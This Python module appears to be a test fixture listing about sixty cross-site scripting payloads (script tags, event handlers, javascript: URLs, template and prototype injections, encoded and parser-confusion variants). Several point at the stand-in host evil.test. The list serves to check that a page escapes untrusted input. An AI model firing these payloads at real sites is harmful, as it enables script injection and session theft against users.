"""Texts that a careless page would turn into scripts, markup or requests. Each of them would have a visible effect.

They set ``window.__xss``, open a dialog, or fetch something from ``evil.test``. Most are short enough to be the name
of a player.
"""

from __future__ import annotations

PAYLOADS = (
    # scripts and handlers
    "<script>__xss=1</script>",
    "<SCRIPT>__xss=1</SCRIPT>",
    "<script src=//evil.test></script>",
    "<scr<script>ipt>__xss=1</script>",
    "</script><script>__xss=1</script>",
    "</title><script>__xss=1</script>",
    "</textarea><script>__xss=1//",
    "<img src=x onerror=__xss=1>",
    "<img src=//evil.test/x>",
    "<IMG SRC=x oNeRrOr=__xss=1>",
    '"><img src=x onerror=__xss=1>',
    "'><img src=x onerror=__xss=1>",
    "<img/src=x/onerror=__xss=1>",
    "<img src=x onerror=alert`1`>",
    "<svg onload=__xss=1>",
    "<svg/onload=__xss=1>",
    "<svg><script>__xss=1</script>",
    "<svg><set onbegin=__xss=1>",
    "<svg><animate onbegin=__xss=1>",
    "</svg><svg onload=__xss=1>",
    "<body onload=__xss=1>",
    "<input autofocus onfocus=__xss=1>",
    "<details open ontoggle=__xss=1>",
    "<video><source onerror=__xss=1>",
    "<audio src=x onerror=__xss=1>",
    "<marquee onstart=__xss=1>",
    "<iframe src=//evil.test>",
    "<iframe srcdoc='<b>'>",
    "<object data=//evil.test>",
    "<embed src=//evil.test>",
    "<link rel=stylesheet href=//evil.test>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content=0;url=//evil.test>",
    "<form action=//evil.test><button>Go",
    # attributes
    '" onmouseover="__xss=1',
    "' onfocus='__xss=1' autofocus='",
    "` onclick=`__xss=1",
    # addresses
    "javascript:__xss=1",
    "JaVaScRiPt:__xss=1",
    "<a href=javascript:__xss=1>x</a>",
    "data:text/html,<script>__xss=1",
    "[x](javascript:__xss=1)",
    "![x](//evil.test/x)",
    "//evil.test/%2e%2e",
    # templates
    "{{constructor.constructor('1')()}}",
    "${__xss=1}",
    "{@html '<img src=x>'}",
    "{name} {0} {n:one|many}",
    "#{7*7} <%= 7*7 %>",
    "@table.confirm",
    "$& $1 $$",
    "__proto__",
    # entities and encodings
    "&lt;script&gt;__xss=1",
    "&#60;img src=x onerror=__xss=1&#62;",
    "\\u003cscript\\u003e__xss=1",
    "%3Cscript%3E__xss=1%3C/script%3E",
    "＜script＞__xss=1＜/script＞",
    # texts that parsers turn into something else
    "<noscript><p title='</noscript><img src=x onerror=__xss=1>'>",
    "<math><mtext><style><img src=x>",
    "<!--><img src=x onerror=__xss=1>",
    "<![CDATA[<img src=x onerror=__xss=1>]]>",
    # styles
    "<style>@import'//evil.test'</style>",
    "};body{background:url(//evil.test)}",
    "expression(alert(1))",
)
